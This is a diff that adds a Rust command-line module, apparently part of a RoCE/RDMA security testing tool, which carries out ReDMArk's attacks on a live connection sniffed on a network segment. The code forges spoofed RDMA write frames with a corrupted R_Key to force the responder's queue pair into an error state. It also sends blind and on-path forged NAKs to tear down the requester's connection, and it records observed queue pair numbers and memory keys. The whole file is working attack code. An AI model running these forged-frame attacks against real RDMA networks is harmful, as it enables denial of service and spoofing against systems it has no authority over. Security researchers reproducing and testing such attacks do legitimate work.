@@ -1,0 +1,176 @@
+//! `uroce attack <kind> -i IFACE`: ReDMArk's attacks on a connection seen on the segment
+//! ([`crate::attack`]), one outcome line each.
+
+use crate::attack::{self, raw::RawSocket, Learner, Spoof};
+use anyhow::{bail, Context, Result};
+use std::process::ExitCode;
+use std::time::{Duration, Instant};
+use uroce_wire::{AethRepr, ExtHeaders, Msn, NakCode, Opcode, Psn, RethRepr, Syndrome};
+
+/// The attacks.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
+#[value(rename_all = "kebab-case")]
+pub enum AttackKind {
+    /// Invalid requests (a wrong R_Key) at the responder's expected PSN, from the requester's
+    /// address (`--spoof`): IBTA moves the responder QP to ERR on the first one it accepts.
+    KillQp,
+    /// Blind error NAKs toward the requester from the responder's address: random PSN and MSN.
+    NakFlood,
+    /// Error NAKs toward the requester with the PSN and MSN an on-path attacker reads off the
+    /// responder's last ACK.
+    NakOnPath,
+    /// Only watch: the QPNs and R_Keys seen, for prediction.
+    Observe,
+}
+
+/// `uroce attack`'s flags.
+#[derive(clap::Args, Debug)]
+pub struct AttackArgs {
+    /// The attack.
+    #[arg(value_enum)]
+    kind: AttackKind,
+    /// The interface that sees the connection (a mirror port).
+    #[arg(short = 'i', long)]
+    iface: String,
+    /// How the forged frames claim their source (kill-qp).
+    #[arg(long, value_enum, default_value = "full")]
+    spoof: Spoof,
+    /// Frames to send (kill-qp default 4096, nak-flood 100000, nak-on-path 64).
+    #[arg(long)]
+    count: Option<u64>,
+    /// Seconds to wait for a connection to learn.
+    #[arg(long, default_value_t = 20)]
+    learn_timeout: u64,
+    /// Milliseconds to watch the connection after the attack before judging it.
+    #[arg(long, default_value_t = 500)]
+    watch_ms: u64,
+}
+
+/// Drain everything that arrived (without waiting) into the learner: a backlog would leave
+/// the attacker's idea of the PSNs behind the connection's.
+fn drain(sock: &RawSocket, learner: &mut Learner, buf: &mut [u8]) -> Result<()> {
+    for _ in 0..1_000_000 {
+        match sock.recv(buf, Duration::ZERO)? {
+            Some(n) => learner.see(Instant::now(), &buf[..n]),
+            None => break,
+        }
+    }
+    Ok(())
+}
+
+/// `uroce attack`.
+pub fn run(a: &AttackArgs) -> Result<ExitCode> {
+    let sock =
+        RawSocket::open(&a.iface).with_context(|| format!("AF_PACKET socket on {} (needs CAP_NET_RAW)", a.iface))?;
+    let own_mac = uroce_io::netif::Interface::by_name(&a.iface).with_context(|| format!("interface {}", a.iface))?.mac;
+    let mut learner = Learner::default();
+    if !attack::learn(&sock, &mut learner, Duration::from_secs(a.learn_timeout))? {
+        bail!("no RC connection with traffic both ways seen on {} in {} s", a.iface, a.learn_timeout);
+    }
+    let (req, resp) = (learner.l.requester.expect("ready"), learner.l.responder.expect("ready"));
+    let mut buf = vec![0u8; 65536];
+    let mut sent = 0u64;
+    let t0 = Instant::now();
+    match a.kind {
+        AttackKind::KillQp => {
+            let reth = learner.l.reth.context("no RETH seen: the connection carries no WRITE or READ")?;
+            let src_mac = if a.spoof == Spoof::OwnMac { own_mac } else { req.mac };
+            let sport = if a.spoof == Spoof::OtherPort { (req.sport ^ 0x0101) | 0xc000 } else { req.sport };
+            let ext = ExtHeaders {
+                reth: Some(RethRepr { va: reth.va, rkey: reth.rkey.wrapping_add(0x1000_0000), dma_len: 8 }),
+                ..ExtHeaders::default()
+            };
+            let fatal = |l: &Learner| {
+                ["RemoteAccessError", "InvalidRequest"].iter().map(|k| l.l.naks.get(*k).copied().unwrap_or(0)).sum::<u64>()
+            };
+            let fatal_before = fatal(&learner);
+            for i in 0..a.count.unwrap_or(4096) {
+                // one frame per 10 µs, each aimed afresh: the sniffed PSN lags the responder's
+                let until = Instant::now() + Duration::from_micros(10);
+                while Instant::now() < until {
+                    drain(&sock, &mut learner, &mut buf)?;
+                }
+                if fatal(&learner) > fatal_before {
+                    break;
+                }
+                // at or ahead of the requester's next PSN, where the responder's expected PSN
+                // is when the frame arrives (ahead of it: out of sequence, dropped; behind: a
+                // duplicate)
+                let psn = learner.l.psn.expect("ready").add(1 + (i % 32) as u32);
+                let f = attack::forge(src_mac, &req, &resp, sport, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0xa5; 8]);
+                sock.send(&f)?;
+                sent += 1;
+            }
+        }
+        AttackKind::NakFlood | AttackKind::NakOnPath => {
+            let mut rng = crate::fuzz::Rng::new(t0.elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
+            let n = a.count.unwrap_or(if a.kind == AttackKind::NakFlood { 100_000 } else { 64 });
+            for i in 0..n {
+                if i % 64 == 0 {
+                    drain(&sock, &mut learner, &mut buf)?;
+                }
+                let (psn, msn) = match a.kind {
+                    AttackKind::NakFlood => {
+                        (Psn::new(rng.next_u64() as u32 & 0xff_ffff), rng.next_u64() as u32 & 0xff_ffff)
+                    }
+                    _ => {
+                        // a message the requester sent last (surely not ACKed yet when the NAK
+                        // arrives): its first PSN, and the MSN the responder had before it,
+                        // counted in messages from the last ACK seen
+                        drain(&sock, &mut learner, &mut buf)?;
+                        let (p, m) = learner.l.ack.expect("ready");
+                        let ppm = learner.l.psns_per_message.max(1);
+                        let ahead = learner.l.psn.expect("ready").diff(p.add(1)).max(0) as u32 / ppm;
+                        let k = ahead.saturating_sub((i % 4) as u32);
+                        (p.add(1 + k * ppm), (m + k) & 0xff_ffff)
+                    }
+                };
+                let ext = ExtHeaders {
+                    aeth: Some(AethRepr { syndrome: Syndrome::Nak(NakCode::InvalidRequest), msn: Msn::new(msn) }),
+                    ..ExtHeaders::default()
+                };
+                let f = attack::forge(resp.mac, &resp, &req, resp.sport, Opcode::RC_ACKNOWLEDGE, psn, ext, &[]);
+                sock.send(&f)?;
+                sent += 1;
+            }
+        }
+        AttackKind::Observe => {}
+    }
+    let attack_time = t0.elapsed();
+    // judge by what the connection does once the attack's frames have settled (the second
+    // half of the watch): requests still ACKed, or not
+    let (reqs, resps) = (learner.l.requests, learner.l.responses);
+    attack::watch(&sock, &mut learner, Duration::from_millis(a.watch_ms / 2))?;
+    let (reqs0, acks0) = (learner.l.requests, learner.l.acks);
+    attack::watch(&sock, &mut learner, Duration::from_millis(a.watch_ms - a.watch_ms / 2))?;
+    let l = &learner.l;
+    let (moved_req, moved_ack) = (l.requests - reqs0, l.acks - acks0);
+    let naks: Vec<String> = l.naks.iter().map(|(k, v)| format!("{k}={v}")).collect();
+    let outcome = if a.kind == AttackKind::Observe {
+        "observed"
+    } else if moved_req > 0 && moved_ack > 0 {
+        "survived"
+    } else {
+        "killed"
+    };
+    println!(
+        "uroce-attack: kind={:?} spoof={:?} sent={sent} in_ms={} outcome={outcome} requests_after={moved_req} \
+         acks_after={moved_ack} during=({}/{}) responder_naks=[{}] requester={}:{:#x} qp={:#08x} \
+         responder={}:{:#x} qp={:#08x} qpns_seen={:?} rkeys_seen={:x?}",
+        a.kind,
+        a.spoof,
+        attack_time.as_millis(),
+        reqs0 - reqs,
+        l.responses - resps,
+        naks.join(" "),
+        req.ip,
+        req.sport,
+        req.qpn.unwrap_or(0),
+        resp.ip,
+        resp.sport,
+        resp.qpn.unwrap_or(0),
+        l.qpns,
+        l.rkeys
+    );
+    Ok(ExitCode::SUCCESS)
+}
